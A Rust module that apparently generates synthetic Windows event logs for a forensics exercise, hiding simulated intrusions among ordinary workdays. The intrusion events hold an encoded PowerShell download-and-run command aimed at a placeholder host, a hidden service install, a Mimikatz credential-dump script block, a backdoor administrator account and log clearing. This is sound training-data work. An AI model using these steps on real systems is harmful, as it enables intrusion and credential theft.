//! The logs: ordinary days first, then what is hidden among them, put in order and written as event XML and as Winlogbeat's
//! lines, which overlap.

use super::{TrueEntered, TrueEvents, Windows};
use crate::address::{Addresses, Country, Side};
use crate::evidence::Evidence;
use crate::parts::mail::staff;
use crate::random::Random;
use crate::stage::Stage;
use model::{Result, Time};
use serde_json::{Map, Value, json};
use std::collections::{BTreeMap, BTreeSet};

const DAY: i64 = 86_400;
/// `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')`, as PowerShell takes it encoded.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEAJwApAA==";
const SECURITY: (&str, &str) = ("Security", "Microsoft-Windows-Security-Auditing");
const SYSTEM: (&str, &str) = ("System", "Service Control Manager");
const POWERSHELL: (&str, &str) = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell");

/// One event.
struct Event {
    at: i64,
    machine: usize,
    log: (&'static str, &'static str),
    id: u32,
    fields: Vec<(&'static str, String)>,
}

struct Logs(Vec<Event>);

impl Logs {
    fn add(
        &mut self,
        at: i64,
        machine: usize,
        log: (&'static str, &'static str),
        id: u32,
        fields: &[(&'static str, &str)],
    ) {
        let fields = fields.iter().map(|(name, value)| (*name, (*value).to_string())).collect();
        self.0.push(Event { at, machine, log, id, fields });
    }

    /// A logon, or a refused one.
    fn logon(&mut self, at: i64, machine: usize, who: &str, kind: &str, from: &str, refused: bool) {
        let sid = format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1001 + machine);
        let common = [
            ("TargetUserName", who),
            ("TargetDomainName", "-"),
            ("LogonType", kind),
            ("WorkstationName", "-"),
            ("IpAddress", from),
        ];
        let mut fields = common.to_vec();
        match refused {
            true => {
                fields.extend([("TargetUserSid", "S-1-0-0"), ("Status", "0xc000006d"), ("SubStatus", "0xc000006a")])
            }
            false => fields.extend([("TargetUserSid", sid.as_str()), ("LogonProcessName", "User32 ")]),
        }
        self.add(at, machine, SECURITY, if refused { 4625 } else { 4624 }, &fields);
    }

    fn process(&mut self, at: i64, machine: usize, who: &str, parent: &str, program: &str, line: &str) {
        self.add(
            at,
            machine,
            SECURITY,
            4688,
            &[
                ("SubjectUserName", who),
                ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1001"),
                ("NewProcessName", program),
                ("CommandLine", line),
                ("ParentProcessName", parent),
            ],
        );
    }
}

/// The name of a machine.
fn name(machine: usize) -> String {
    format!("PC{:03}", machine + 1)
}

/// Writes `windows.events-1.xml` and `windows.events-2.ndjson`.
pub(super) fn write(w: &Windows, stage: &Stage, evidence: &mut Evidence) -> Result<TrueEvents> {
    let zone = &stage.period.zone;
    let (from, to) = (w.from.start(zone), w.to.end(zone));
    let countries: Vec<Country> = w.entered.iter().map(|e| e.country.0).collect();
    let addresses = Addresses::of(countries)?;
    let random = &mut stage.random("windows/days", 0);
    // The same people as in the mail.
    let people: Vec<String> = staff(w.machines, &stage.mail_domain, &mut stage.random("staff", 0))
        .into_iter()
        .map(|address| address.split('@').next().unwrap_or_default().to_string())
        .collect();
    let mut logs = Logs(Vec::new());
    let mut day = from;
    while day < to {
        for (machine, who) in people.iter().enumerate() {
            ordinary(&mut logs, machine, who, day, random);
        }
        day += DAY;
    }
    // A colleague joins, on the first machine, and its owner runs scripts.
    let joined = from + (to - from) / 2 + 10 * 3600;
    logs.add(
        joined,
        0,
        SECURITY,
        4720,
        &[
            ("TargetUserName", "newcomer"),
            ("SubjectUserName", &people[0]),
            ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1001"),
        ],
    );
    let mut truth = TrueEvents::default();
    let random = &mut stage.random("windows/entered", 0);
    let mut free: Vec<usize> = (1..people.len()).collect();
    random.shuffle(&mut free);
    for entered in &w.entered {
        let Some(machine) = free.pop() else { break };
        let source = addresses.draw(entered.country.0, Side::Attempts, random).to_string();
        let at = entered.at.start(zone);
        truth.entered.push(enter(&mut logs, machine, &people[machine], &source, (at, entered.guesses), random));
    }
    files(logs.0, &mut truth, evidence)?;
    Ok(truth)
}

/// A person's day at the machine, and what the machine does by itself.
fn ordinary(logs: &mut Logs, machine: usize, who: &str, day: i64, random: &mut Random) {
    const PROGRAMS: [(&str, &str); 4] = [
        (r"C:\Program Files\Mozilla Firefox\firefox.exe", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\""),
        (
            r"C:\Program Files\LibreOffice\program\soffice.exe",
            "\"C:\\Program Files\\LibreOffice\\program\\soffice.exe\" --writer",
        ),
        (r"C:\Windows\System32\notepad.exe", r"C:\Windows\System32\notepad.exe notes.txt"),
        (r"C:\Windows\System32\mspaint.exe", r"C:\Windows\System32\mspaint.exe"),
    ];
    let morning = day + 8 * 3600 + random.below(5400) as i64;
    if random.chance(0.1) {
        (0..random.range(1, 3))
            .for_each(|n| logs.logon(morning - 60 + 15 * n as i64, machine, who, "2", "127.0.0.1", true));
    }
    logs.logon(morning, machine, who, "2", "127.0.0.1", false);
    for _ in 0..random.range(3, 8) {
        let (program, line) = PROGRAMS[random.below(PROGRAMS.len() as u64) as usize];
        logs.process(
            morning + 60 + random.below(8 * 3600) as i64,
            machine,
            who,
            r"C:\Windows\explorer.exe",
            program,
            line,
        );
    }
    for _ in 0..3 {
        let fields =
            [("TargetUserName", "SYSTEM"), ("TargetUserSid", "S-1-5-18"), ("LogonType", "5"), ("IpAddress", "-")];
        logs.add(day + random.below(DAY as u64) as i64, machine, SECURITY, 4624, &fields);
    }
    if random.chance(0.03) {
        let fields = [
            ("ServiceName", "Mozilla Maintenance Service"),
            ("ImagePath", r#""C:\Program Files (x86)\Mozilla Maintenance Service\maintenanceservice.exe""#),
            ("ServiceType", "user mode service"),
            ("StartType", "demand start"),
            ("AccountName", "LocalSystem"),
        ];
        logs.add(morning + 7200, machine, SYSTEM, 7045, &fields);
    }
    if machine == 0 && random.chance(0.3) {
        let script = "Get-Service | Where-Object { $_.Status -eq 'Stopped' } | Format-Table Name";
        let fields = [
            ("MessageNumber", "1"),
            ("MessageTotal", "1"),
            ("ScriptBlockText", script),
            ("ScriptBlockId", "0f0e0d0c-0000-4000-8000-000000000000"),
            ("Path", r"C:\Admin\services.ps1"),
        ];
        logs.add(morning + 3600, machine, POWERSHELL, 4104, &fields);
    }
}

/// What somebody does who guesses a password, and then has the machine.
fn enter(
    logs: &mut Logs,
    machine: usize,
    who: &str,
    source: &str,
    (begin, guesses): (i64, u64),
    random: &mut Random,
) -> TrueEntered {
    const CMD: &str = r"C:\Windows\System32\cmd.exe";
    const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let mut at = begin;
    for _ in 0..guesses {
        logs.logon(at, machine, who, "10", source, true);
        at += random.range(2, 6) as i64;
    }
    let entered = at;
    logs.logon(entered, machine, who, "10", source, false);
    at += 120;
    let line = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    logs.process(at, machine, who, CMD, PS, &line);
    at += 60;
    let service = [
        ("ServiceName", "kqzxwvjp"),
        ("ImagePath", &*format!("%COMSPEC% /C start /b {line}")),
        ("ServiceType", "user mode service"),
        ("StartType", "demand start"),
        ("AccountName", "LocalSystem"),
    ];
    logs.add(at, machine, SYSTEM, 7045, &service);
    at += 90;
    for (n, part) in ["function Get-It { Invoke-Mimi", "katz -DumpCreds }\nGet-It"].iter().enumerate() {
        let fields = [
            ("MessageNumber", &*(n + 1).to_string()),
            ("MessageTotal", "2"),
            ("ScriptBlockText", part),
            ("ScriptBlockId", &*format!("0f0e0d0c-0000-4000-8000-{machine:012}")),
            ("Path", ""),
        ];
        logs.add(at, machine, POWERSHELL, 4104, &fields);
    }
    at += 300;
    let actor = [("SubjectUserName", who), ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1001")];
    let made = [&[("TargetUserName", "support1")], &actor[..]].concat();
    logs.add(at, machine, SECURITY, 4720, &made);
    let group = [
        ("MemberName", "-"),
        ("MemberSid", "S-1-5-21-1004336348-1177238915-682003330-1999"),
        ("TargetUserName", "Administrators"),
        ("TargetSid", "S-1-5-32-544"),
    ];
    logs.add(at + 2, machine, SECURITY, 4732, &[&group[..], &actor[..]].concat());
    at += 1800;
    logs.add(at, machine, ("Security", "Microsoft-Windows-Eventlog"), 1102, &actor);
    let done = ["command", "service", "account", "log_cleared"].map(|d| format!("windows_event/{d}"));
    TrueEntered {
        computer: name(machine).to_lowercase(),
        source: source.into(),
        guesses,
        entered: Time::from_seconds(entered),
        done: BTreeSet::from(done),
    }
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

fn xml(event: &Event, number: u64) -> String {
    let (log, writer) = event.log;
    let body: String =
        event.fields.iter().map(|(name, value)| format!("<Data Name=\"{name}\">{}</Data>", escaped(value))).collect();
    format!(
        "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider Name=\"{writer}\"/>\
         <EventID>{}</EventID><TimeCreated SystemTime=\"{}\"/><EventRecordID>{number}</EventRecordID><Channel>{log}</Channel>\
         <Computer>{}</Computer></System><EventData>{body}</EventData></Event>\n",
        event.id,
        Time::from_seconds(event.at),
        name(event.machine)
    )
}

fn beat(event: &Event, number: u64) -> Value {
    let (log, writer) = event.log;
    let fields: Map<String, Value> = event.fields.iter().map(|(name, value)| ((*name).into(), json!(value))).collect();
    json!({
        "@timestamp": Time::from_seconds(event.at).to_string(),
        "winlog": {
            "channel": log, "provider_name": writer, "event_id": event.id.to_string(), "record_id": number,
            "computer_name": name(event.machine), "event_data": fields,
        },
    })
}

/// Two files that overlap by a fifth, each in a form of its own.
fn files(mut events: Vec<Event>, truth: &mut TrueEvents, evidence: &mut Evidence) -> Result<()> {
    events.sort_by_key(|e| (e.at, e.machine));
    // Each log of each machine numbers its records.
    let mut numbers: BTreeMap<(usize, &str), u64> = BTreeMap::new();
    let all: Vec<(Event, u64)> = events
        .into_iter()
        .map(|event| {
            let number = numbers.entry((event.machine, event.log.0)).or_default();
            *number += 1;
            let number = *number;
            (event, number)
        })
        .collect();
    truth.records = all.len() as u64;
    let (end, begin) = (all.len() * 3 / 5, all.len() * 2 / 5);
    truth.written = (end + all.len() - begin) as u64;
    let body: String = all[..end].iter().map(|(event, number)| xml(event, *number)).collect();
    evidence.file(
        "windows.events-1.xml",
        format!("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Events>\n{body}</Events>\n").as_bytes(),
    )?;
    let lines: String = all[begin..].iter().map(|(event, number)| format!("{}\n", beat(event, *number))).collect();
    evidence.file("windows.events-2.ndjson", lines.as_bytes())
}
